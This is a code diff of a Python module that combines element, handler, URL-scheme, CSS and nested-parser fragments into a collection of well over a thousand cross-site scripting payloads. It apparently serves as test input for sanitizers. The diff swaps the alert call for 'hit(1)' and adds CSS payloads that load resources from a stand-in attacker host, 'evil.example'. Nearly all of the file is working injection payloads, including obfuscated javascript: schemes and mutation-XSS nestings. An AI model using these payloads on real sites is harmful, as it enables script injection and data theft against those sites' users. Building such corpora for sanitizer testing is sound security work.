@@ -1,21 +1,14 @@
-"""Well over a thousand ways to smuggle something that runs into a text, made from their parts; each calls ``alert``.
+"""What attackers write where markup is read: elements with handlers, addresses that run, and texts that parse twice.
 
 Nothing here is a list that somebody else gathered: the parts are multiplied with each other.
 """
 
+from base64 import b64encode
 from collections.abc import Iterator
-from html import escape
-from itertools import product
-from random import Random
+from itertools import permutations, product
 from typing import Final
 
-CALL: Final = "alert(1)"
-_CORES: Final = (
-    f"<script>{CALL}</script>",
-    f"<img src=x onerror={CALL}>",
-    f"<svg onload={CALL}>",
-    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
-)
+CALL, HOST = "hit(1)", "evil.example"
 _ELEMENTS: Final = (
     "img src=x", "svg", "video src=x", "audio src=x", "body", "input autofocus", "details open", "marquee", "a href=#",
     "p", "blockquote", "table", "td", "math", "select autofocus", "object data=x", "embed src=x", "button autofocus",
@@ -37,8 +30,8 @@ _FORMS: Final = (
 _SCHEMES: Final = (
     f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"\x01javascript:{CALL}",
     f"&#106;avascript&colon;{CALL}", f"&#x6A;avascript:{CALL}", f"javascript&#58;{CALL}", f" javascript:{CALL}",
-    f"javascript://%0a{CALL}", f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-    f"vbscript:{CALL}", f"feed:javascript:{CALL}", f"view-source:javascript:{CALL}",
+    f"javascript://%0a{CALL}", f"data:text/html,<script>{CALL}</script>", f"vbscript:{CALL}", f"feed:javascript:{CALL}",
+    f"data:text/html;base64,{b64encode(f'<script>{CALL}</script>'.encode()).decode()}", f"view-source:javascript:{CALL}",
 )  # fmt: skip
 _HOLDERS: Final = (
     '<a href="{0}">x</a>', "<a href={0}>x</a>", "<a href='{0}' target=_top>x</a>", '<img src="{0}">', '<iframe src="{0}"></iframe>',
@@ -52,28 +45,21 @@ _HOLDERS: Final = (
     '<div class=wp-block-file><a href="{0}">x</a></div>', '<script data-telegram-post="{0}"></script>',
     '<blockquote class=twitter-tweet cite="{0}"><p>x</p>— A (@a) <a href="{0}">June 9, 2023</a></blockquote>',
 )  # fmt: skip
-_ENDS: Final = (
-    '"', "'", ">", '">', "'>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
-    "</template>", "</svg>", "</math>", "</select>", "</iframe>", "</xmp>", "</plaintext>", "*/", "\\", "[/caption]",
-    "<!-- /wp:paragraph -->", "</wp-mark>", "`", "\u2028", "\ufeff",
-)  # fmt: skip
 _CHANGING: Final = (
     "svg", "math", "style", "noscript", "template", "title", "textarea", "select", "table", "mtext", "mglyph", "foreignobject",
     "annotation-xml encoding=text/html", "desc", "xmp", "form", "p", "a",
 )  # fmt: skip
 _STYLES: Final = (
-    "<p style='background:url(javascript:{0})'>x</p>", "<style>@import 'javascript:{0}'</style>",
-    "<p style='width:expression({0})'>x</p>", "<style>*{{background:url(https://t.example/x)}}</style>",
-    "<link rel=stylesheet href=https://t.example/x.css>", "<p style=position:fixed;inset:0>x</p>",
-    "<svg><style><img src=x onerror={0}></style></svg>", "<p style='-moz-binding:url(https://t.example/x#x)'>x</p>",
+    f"<p style='background:url(javascript:{CALL})'>x</p>", f"<style>@import 'javascript:{CALL}'</style>",
+    f"<p style='width:expression({CALL})'>x</p>", f"<style>*{{background:url(https://{HOST}/x)}}</style>",
+    f"<p style='-moz-binding:url(https://{HOST}/x#x)'>x</p>", "<p style=position:fixed;inset:0>x</p>",
+    f"<svg><style><img src=x onerror={CALL}></style></svg>",
 )  # fmt: skip
 
 
-def payloads() -> tuple[str, ...]:
-    """Return all of them, in an order that is the same each time."""
-    found = list(dict.fromkeys([*_handlers(), *_addresses(), *_ways_out(), *_changing(), *_encoded()]))
-    Random(7).shuffle(found)
-    return tuple(found)
+def smuggled_markup() -> tuple[str, ...]:
+    """Return all of it, in an order that is the same each time; well over a thousand."""
+    return tuple(dict.fromkeys([*_handlers(), *_addresses(), *_changing(), *_STYLES]))
 
 
 def _handlers() -> Iterator[str]:
@@ -87,26 +73,7 @@ def _addresses() -> Iterator[str]:
     return (holder.format(scheme) for holder, scheme in product(_HOLDERS, _SCHEMES))
 
 
-def _ways_out() -> Iterator[str]:
-    return (f"{end}{core}" for end, core in product(_ENDS, _CORES))
-
-
 def _changing() -> Iterator[str]:
     """Yield what a parser reads in one way and a browser, when it is read again, in another."""
-    for outer, inner in product(_CHANGING, repeat=2):
-        if outer != inner:
-            yield f"<{outer}><{inner}><img title='</{inner.split()[0]}><img src=x onerror={CALL}>'>"
-    yield from (style.format(CALL) for style in _STYLES)
-
-
-def _encoded() -> Iterator[str]:
-    for core in _CORES:
-        yield escape(core)
-        yield escape(escape(core))
-        yield core.replace("<", "\\u003c").replace(">", "\\u003e")
-        yield core.replace("<", "%3C").replace(">", "%3E")
-        yield core.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"})
-        yield core.replace("<", "+ADw-").replace(">", "+AD4-")
-        yield core.replace("script", "scr\x00ipt").replace("img", "im\x00g").replace("svg", "s\x00vg")
-        yield core.replace("<", "<\x00")
-        yield "{{" + core + "}}{% now 'Y' %}${" + CALL + "}"
+    for outer, inner in permutations(_CHANGING, 2):
+        yield f"<{outer}><{inner}><img title='</{inner.split()[0]}><img src=x onerror={CALL}>'>"
